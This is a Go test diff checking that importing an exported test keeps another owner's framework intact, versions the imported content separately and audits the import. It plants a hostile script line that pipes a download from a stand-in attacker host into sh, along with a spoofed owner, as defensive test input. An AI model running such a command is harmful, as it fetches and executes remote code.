@@ -227,3 +227,38 @@ func TestFilterAndSeriesInputs(t *testing.T) {
 	_, _, err = b.svc.Compare(b.owner, []int64{1})
 	servicetest.Kind(t, err, service.Invalid, "ids")
 }
+
+// Importing a test never changes a framework someone else owns: its owner
+// and current version stay; the imported content becomes a version of its
+// own for the imported test, and the import is audited.
+func TestImportRespectsTheFrameworksOwner(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	ctx := context.Background()
+	id := b.test(t, wire.StateFinished)
+	ex, err := b.svc.Export(b.owner, id)
+	require.NoError(t, err)
+	ex.Framework.Execution.Script = "#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
+	ex.Framework.Owner = "mallory"
+
+	other := b.as(t, auth.Member)
+	got, err := b.svc.Import(other, ex)
+	require.NoError(t, err)
+	f, err := servicetest.Store.FrameworkGet(ctx, b.team, b.framework)
+	require.NoError(t, err)
+	require.Equal(t, service.Principal(b.owner).Name, f.Owner, "the owner stays")
+	require.Equal(t, 1, f.Version, "the current version stays")
+	require.Contains(t, f.Execution.Script, "echo ok")
+	require.Equal(t, 2, got.FrameworkVersion, "the imported content is a version of its own")
+
+	var audited int
+	require.NoError(t, servicetest.Store.Pool().QueryRow(ctx, `SELECT count(*) FROM audit_log
+		WHERE action = 'test imported' AND team = $1 AND actor = $2`, b.team, service.Principal(other).Name).Scan(&audited))
+	require.Equal(t, 1, audited)
+
+	// The owner's next change is version 3, and current.
+	res, err := (&frameworks.Service{Store: servicetest.Store, Log: servicetest.Log}).Apply(b.owner, fmt.Appendf(nil,
+		"name: %s\nteam: %s\nexecution:\n  script: \"#!/bin/sh\\necho v3\\n\"\n", b.framework, b.team))
+	require.NoError(t, err)
+	require.Equal(t, 3, res.Framework.Version)
+}
